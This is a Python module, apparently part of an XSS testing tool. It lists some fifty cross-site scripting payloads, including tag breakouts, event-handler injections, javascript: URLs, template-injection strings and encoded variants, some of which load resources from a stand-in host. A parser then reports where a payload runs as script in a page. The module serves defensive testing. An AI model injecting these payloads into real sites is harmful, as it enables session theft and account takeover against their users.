"""Texts that run as a script where a page takes them for anything but text, and the look for such
a place.
"""

from __future__ import annotations

from html.parser import HTMLParser

MARK = "pwned"
_CALL = f"{MARK}()"
PAYLOADS = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"<script src=//{MARK}.example></script>",
    f"</script><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f"<img src=x onerror={_CALL}//",
    f"<img/src/onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f'"><svg onload={_CALL}>',
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={_CALL}>",
    f"<math><mi xlink:href=javascript:{_CALL}>x",
    f"<body onload={_CALL}>",
    f"<iframe src=javascript:{_CALL}>",
    f"<iframe srcdoc='<script>{_CALL}</script>'>",
    f"<object data=javascript:{_CALL}>",
    f"<embed src=javascript:{_CALL}>",
    f"<a href=javascript:{_CALL}>x</a>",
    f"<form action=javascript:{_CALL}><button>x",
    f"<button formaction=javascript:{_CALL}>x",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>",
    f"<textarea autofocus onfocus={_CALL}>",
    f"<details open ontoggle={_CALL}>",
    f"<video><source onerror={_CALL}>",
    f"<audio src=x onerror={_CALL}>",
    f"<marquee onstart={_CALL}>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<meta http-equiv=refresh content=0;javascript:{_CALL}>",
    f"<base href=//{MARK}.example/>",
    f"<style>@import '//{MARK}.example'</style>",
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f'" autofocus onfocus="{_CALL}" x="',
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"{{{{ {_CALL} }}}}",
    f"{{% print({_CALL}) %}}",
    f"${{{_CALL}}}",
    f"`-{_CALL}-`",
    f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e",
    f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;",
    f"%3Cscript%3E{_CALL}%3C/script%3E",
)
# What people see or a form sends; a browser runs none of it.
_TEXTS = ("value", "title", "alt", "placeholder", "content", "id", "for", "href", "action")
_ADDRESSES = ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href")


class _Look(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        values = dict(attributes)
        self._in_script = tag == "script"
        for name, value in attributes:
            text = (value or "").strip()
            is_told = name in _TEXTS or name.startswith(("data-", "aria-"))
            runs = name in _ADDRESSES and text.lower().startswith(("javascript:", "//" + MARK))
            if name.startswith("on") or (MARK in f"{name}{text}" and (not is_told or runs)):
                self.found.append(f"<{tag} {name}={text}>")
        if tag in ("base", "meta") and MARK in str(values):
            self.found.append(f"<{tag} {values}>")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, text: str) -> None:
        if self._in_script and MARK in text and ("<" in text or "pwned()" in text.split('"')[::2]):
            self.found.append(f"<script>{text[:200]}")


def find_executable(page: str) -> list[str]:
    """Return the places of a page where a payload is more than text."""
    look = _Look()
    look.feed(page)
    look.close()
    return look.found
